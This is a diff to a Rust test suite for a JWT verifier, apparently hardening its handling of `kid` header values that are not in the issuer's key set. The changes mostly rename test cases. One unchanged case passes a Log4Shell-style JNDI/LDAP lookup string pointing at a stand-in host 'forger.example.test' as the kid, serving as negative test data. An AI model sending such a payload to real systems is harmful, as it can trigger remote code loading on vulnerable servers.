@@ -1,4 +1,4 @@
-//! `kid`: a name in the issuer's set, and nothing else (RFC 7515 §4.1.4, RFC 8725 §2.10).
+//! Values of `kid` that are not in the issuer's key set (RFC 7515 §4.1.4, RFC 8725 §2.10).
 
 use serde_json::json;
 
@@ -10,7 +10,7 @@ pub(super) const CASES: &[Case] = &[
     ("kid null", MALFORMED, |good| {
         good.header("kid", json!(null))
     }),
-    ("kid a list", MALFORMED, |good| {
+    ("kid an array", MALFORMED, |good| {
         good.header("kid", json!([good.kid()]))
     }),
     ("kid an object", MALFORMED, |good| {
@@ -24,7 +24,7 @@ pub(super) const CASES: &[Case] = &[
     }),
     ("an unknown key", KEY, |good| good.header("kid", "unknown")),
     ("kid empty", KEY, |good| good.header("kid", "")),
-    ("kid null, as a text", KEY, |good| {
+    ("kid null, as a string", KEY, |good| {
         good.header("kid", "null")
     }),
     ("kid none, as it is logged", KEY, |good| {
@@ -36,13 +36,13 @@ pub(super) const CASES: &[Case] = &[
     ("kid cut short", KEY, |good| {
         good.header("kid", &good.kid()[..good.kid().len() - 1])
     }),
-    ("kid with more behind", KEY, |good| {
+    ("kid with a suffix", KEY, |good| {
         good.header("kid", format!("{}0", good.kid()))
     }),
-    ("kid twice in one text", KEY, |good| {
+    ("kid twice in one string", KEY, |good| {
         good.header("kid", good.kid().repeat(2))
     }),
-    ("kid after a blank", KEY, |good| {
+    ("kid after a space", KEY, |good| {
         good.header("kid", format!(" {}", good.kid()))
     }),
     ("kid with a non-breaking space", KEY, |good| {
@@ -68,7 +68,7 @@ pub(super) const CASES: &[Case] = &[
             "kid",
             good.kid()
                 .bytes()
-                .map(|octet| format!("{octet:02x}"))
+                .map(|byte| format!("{byte:02x}"))
                 .collect::<String>(),
         )
     }),
@@ -98,6 +98,8 @@ pub(super) const CASES: &[Case] = &[
         good.header("kid", "${jndi:ldap://forger.example.test/a}")
     }),
     ("kid a thumbprint", KEY, |good| {
-        good.header("kid", "urn:ietf:params:oauth:jwk-thumbprint:sha-256:NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs")
+        let thumbprint = "NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs";
+        let urn = format!("urn:ietf:params:oauth:jwk-thumbprint:sha-256:{thumbprint}");
+        good.header("kid", urn)
     }),
 ];
